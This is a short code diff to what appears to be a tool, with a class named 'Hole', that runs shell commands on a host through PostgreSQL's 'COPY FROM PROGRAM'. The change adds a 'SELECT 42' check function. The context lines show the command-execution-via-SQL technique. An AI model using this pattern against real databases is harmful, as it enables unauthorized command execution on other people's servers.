@@ -65,3 +65,9 @@ class Hole:
             f"BEGIN; CREATE TEMP TABLE out (line text) ON COMMIT DROP; COPY out FROM PROGRAM '{{ {quoted} }} 2>&1' "
             "WITH (FORMAT csv, DELIMITER E'\\x01', QUOTE E'\\x02'); SELECT * FROM out; COMMIT"
         )
+
+
+def once(host):
+    answer = Hole(host).sql("SELECT 42", "shop")
+    if answer != "42\n":
+        raise RuntimeError(answer)
